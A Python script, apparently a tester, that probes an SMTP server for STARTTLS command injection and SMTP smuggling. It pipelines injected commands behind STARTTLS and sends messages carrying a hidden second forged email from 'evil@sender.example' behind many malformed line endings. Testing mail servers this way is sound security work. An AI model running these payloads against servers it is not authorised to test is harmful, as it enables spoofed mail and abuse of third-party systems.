#!/usr/bin/env python3
"""Commands and messages that a server must not see: usage: injection.py HOST PORT FROM TO SMUGGLED

Behind STARTTLS in the same segment (nothing of it may be answered within TLS), and behind 99 line ends that are none (a second
message for SMUGGLED, which the caller sees to have reached nobody). Exit status 1 when something was answered."""
import socket
import ssl
import sys

HOST, PORT, FROM, TO, SMUGGLED = sys.argv[1], int(sys.argv[2]), *sys.argv[3:6]
INJECTED = [
    b"NOOP\r\n",
    b"RSET\r\n",
    b"EHLO injected.example\r\n",
    b"NOOP\r\nNOOP\r\nNOOP\r\n",
    b"MAIL FROM:<evil@sender.example>\r\nRCPT TO:<" + SMUGGLED.encode() + b">\r\nDATA\r\nx\r\n.\r\n",
    b"QUIT\r\n",
    b"NO",
]
ENDS = [b"\r\n", b"\n", b"\r", b"\r\r\n", b"\n\r", b"\r\n\0", b"\x0b", b"\x0c", b"\x85", "\u2028".encode()]


def hear(connection):
    """One whole reply; nothing at the end."""
    heard = b""
    while not heard.endswith(b"\r\n") or heard.split(b"\r\n")[-2][3:4] == b"-":
        try:
            more = connection.recv(4096)
        except (ConnectionError, ssl.SSLError, TimeoutError):
            return heard
        if not more:
            return heard
        heard += more
    return heard


def ask(connection, line):
    connection.sendall(line + b"\r\n")
    return hear(connection)


def connect():
    connection = socket.create_connection((HOST, PORT), timeout=20)
    hear(connection)
    ask(connection, b"EHLO probe.example")
    return connection


def answered(injected):
    with connect() as connection:
        connection.sendall(b"STARTTLS\r\n" + injected)
        if not hear(connection).startswith(b"220"):
            return False
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        try:
            with context.wrap_socket(connection) as sealed:
                # One command of our own; whatever else comes was an answer to what was injected.
                sealed.sendall(b"VRFY own\r\n")
                sealed.settimeout(2)
                return not hear(sealed).startswith(b"252")
        except (ConnectionError, ssl.SSLError, TimeoutError):
            return False


def smuggle(x, y):
    second = b"MAIL FROM:<evil@sender.example>\r\nRCPT TO:<" + SMUGGLED.encode() + b">\r\nDATA\r\nFrom: evil\r\n\r\nsecond\r\n.\r\n"
    with connect() as connection:
        for line in [f"MAIL FROM:<{FROM}>", f"RCPT TO:<{TO}>", "DATA"]:
            ask(connection, line.encode())
        connection.sendall(b"From: " + FROM.encode() + b"\r\n\r\nfirst" + x + b"." + y + second + b"\r\n.\r\n")
        try:
            connection.shutdown(socket.SHUT_WR)
            while hear(connection):
                pass
        except OSError:
            pass


bad = [injected for injected in INJECTED if answered(injected)]
for injected in bad:
    print("answered within TLS:", injected)
variants = [(x, y) for x in ENDS for y in ENDS if (x, y) != (b"\r\n", b"\r\n")]
for x, y in variants:
    smuggle(x, y)
print(f"{len(INJECTED)} injections, {len(bad)} answered; {len(variants)} line ends tried")
sys.exit(1 if bad else 0)
